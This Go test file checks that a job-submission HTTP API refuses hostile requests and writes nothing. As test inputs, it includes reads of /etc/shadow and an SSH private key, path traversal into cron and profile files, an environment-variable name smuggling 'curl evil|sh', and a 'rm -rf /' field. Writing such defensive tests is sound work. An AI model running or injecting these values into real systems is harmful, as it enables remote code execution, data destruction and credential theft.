package api_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/gridsub/gridsub/bridge"
	"github.com/gridsub/gridsub/bridge/api"
)

// TestHostileSubmissionsOverHTTP posts every hostile request of issue 12
// to the real HTTP handler in front of a real broker with an output root
// and an input root. Each is answered 400 bad_request with the very text
// the broker's Submit gives for it (the CLI's path), naming the field;
// nothing is stored and nothing is written.
func TestHostileSubmissionsOverHTTP(t *testing.T) {
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	out, home := filepath.Join(base, "out"), filepath.Join(base, "home")
	for _, d := range []string{out, filepath.Join(home, ".ssh")} {
		if err := os.MkdirAll(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	input := filepath.Join(home, "in.dat")
	if err := os.WriteFile(input, []byte("in"), 0o600); err != nil {
		t.Fatal(err)
	}
	broker := func(st bridge.Store) *bridge.Broker {
		b, err := bridge.New(bridge.Options{Store: st, Planner: waitPlanner{}, OutputRoot: out, InputRoots: []string{home},
			Sites: []bridge.SiteConfig{{Name: "Beijing", Backend: idleSite{"Beijing"}}}})
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	served := bridge.NewMemStore()
	srv := httptest.NewServer(api.NewServer(api.WithStore(broker(served), served), api.ServerOptions{Now: func() time.Time { return t0 }}).Handler())
	defer srv.Close()
	direct := broker(bridge.NewMemStore()) // the embedded CLI's path: Submit itself

	good := map[string]any{"Name": "ok", "Command": []string{"/bin/echo", "hi"}, "Nodes": 1, "Estimate": int64(time.Minute),
		"Env": map[string]string{"OMP_NUM_THREADS": "4"}, "Inputs": []map[string]any{{"Local": input, "Remote": "in.dat"}},
		"Outputs": []string{"out.txt"}, "OutputDir": bridge.IDPlaceholder}
	with := func(k string, v any) map[string]any {
		m := maps.Clone(good)
		m[k] = v
		return m
	}
	cases := []struct {
		name  string
		body  map[string]any
		field string
		msg   string
	}{
		{"output dir into .ssh", with("OutputDir", filepath.Join(home, ".ssh")), "OutputDir", "outside the output root"},
		{"output dir ../", with("OutputDir", "../home/.ssh"), "OutputDir", "outside the output root"},
		{"local /etc/shadow", with("Inputs", []map[string]any{{"Local": "/etc/shadow", "Remote": "s"}}), "Inputs[0].Local", "outside the allowed input roots"},
		{"local private key", with("Inputs", []map[string]any{{"Local": filepath.Join(home, ".ssh", "id_rsa"), "Remote": "k"}}), "Inputs[0].Local", "hidden"},
		{"remote ../", with("Inputs", []map[string]any{{"Local": input, "Remote": "../../.profile"}}), "Inputs[0].Remote", "escapes"},
		{"outputs ../", with("Outputs", []string{"../../../etc/cron.d/x"}), "Outputs[0]", "escapes the job directory"},
		{"env metachars", with("Env", map[string]string{"A;curl evil|sh": "1"}), `Env["A;curl evil|sh"]`, "not a valid environment variable name"},
		{"env SLURM_", with("Env", map[string]string{"SLURM_X": "1"}), `Env["SLURM_X"]`, "reserved name"},
		{"negative cores", with("CoresPerNode", -8), "CoresPerNode", "got -8"},
		{"negative data", with("DataSize", -1), "DataSize", "got -1"},
		{"unknown QoS", with("QoS", "platinum"), "QoS", "must be one of auto, high, low, none"},
		{"year-0001 deadline", with("Deadline", "0001-01-01T00:00:01Z"), "Deadline", "before the submission time"},
		{"2^63-1 ns estimate", with("Estimate", int64(1<<63-1)), "Estimate", "at most 8760h0m0s"},
		{"workdir absolute", with("WorkDir", "/root"), "WorkDir", "absolute path"},
		{"name with slash", with("Name", "a/../../b"), "Name", "1-64 characters"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			body, err := json.Marshal(c.body)
			if err != nil {
				t.Fatal(err)
			}
			resp, err := http.Post(srv.URL+"/v1/jobs", "application/json", bytes.NewReader(body))
			if err != nil {
				t.Fatal(err)
			}
			raw, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			var eb api.ErrorBody
			if err := json.Unmarshal(raw, &eb); err != nil || resp.StatusCode != http.StatusBadRequest || eb.Code != api.CodeBadRequest {
				t.Fatalf("status %d body %s", resp.StatusCode, raw)
			}
			if !strings.Contains(eb.Error, c.field+": ") || !strings.Contains(eb.Error, c.msg) {
				t.Fatalf("error %q lacks %q or %q", eb.Error, c.field+": ", c.msg)
			}
			// The same request given to Submit directly: the same text.
			var r bridge.Request
			if err := json.Unmarshal(body, &r); err != nil {
				t.Fatal(err)
			}
			_, derr := direct.Submit(context.Background(), r, t0)
			if derr == nil || derr.Error() != eb.Error {
				t.Fatalf("direct Submit says %v;\nthe API said %q", derr, eb.Error)
			}
			if !errors.Is(derr, bridge.ErrBadRequest) {
				t.Fatalf("direct error %v is not ErrBadRequest", derr)
			}
		})
	}
	// Bodies no Go client would send: refused while decoding, naming the
	// field or the problem.
	for _, raw := range []struct{ body, want string }{
		{`{"Name":"x","Command":["true"],"Nodes":1,"Estimate":99999999999999999999}`, "Request.Estimate"},
		{`{"Name":"x","Command":["true"],"Nodes":1e30,"Estimate":60000000000}`, "Request.Nodes"},
		{`{"Name":"x","Command":["true"],"Nodes":1,"Estimate":60000000000,"Inputs":[{"Local":"/etc/shadow","Remote":"s","Mode":-1}]}`, "Mode"},
		{`{"Name":"x","Command":["true"],"Nodes":1,"Estimate":60000000000,"Shell":"rm -rf /"}`, `unknown field \"Shell\"`},
		{`{"Name":"x","Command":["true"],"Nodes":1,"Estimate":60000000000,"Deadline":"0000-00-00"}`, "not a job request: Deadline: parsing time"},
	} {
		resp, err := http.Post(srv.URL+"/v1/jobs", "application/json", strings.NewReader(raw.body))
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusBadRequest || !strings.Contains(string(b), raw.want) {
			t.Errorf("%s: status %d body %s; want 400 naming %q", raw.body, resp.StatusCode, b, raw.want)
		}
	}
	if js, _ := served.List(context.Background(), bridge.Filter{}); len(js) != 0 {
		t.Fatalf("the store holds %d jobs after only hostile submissions", len(js))
	}
	if ents, _ := os.ReadDir(out); len(ents) != 0 {
		t.Fatalf("the output root holds %v", ents)
	}
	if ents, _ := os.ReadDir(filepath.Join(home, ".ssh")); len(ents) != 0 {
		t.Fatalf(".ssh holds %v", ents)
	}
	// And the good request goes through both ways.
	body, _ := json.Marshal(good)
	resp, err := http.Post(srv.URL+"/v1/jobs", "application/json", bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	var sr api.SubmitResponse
	if err := json.NewDecoder(resp.Body).Decode(&sr); err != nil || resp.StatusCode != http.StatusCreated {
		t.Fatalf("good request: %d %v", resp.StatusCode, err)
	}
	resp.Body.Close()
	if want := filepath.Join(out, sr.ID); sr.Job.Req.OutputDir != want {
		t.Fatalf("output dir %q, want %q", sr.Job.Req.OutputDir, want)
	}
}
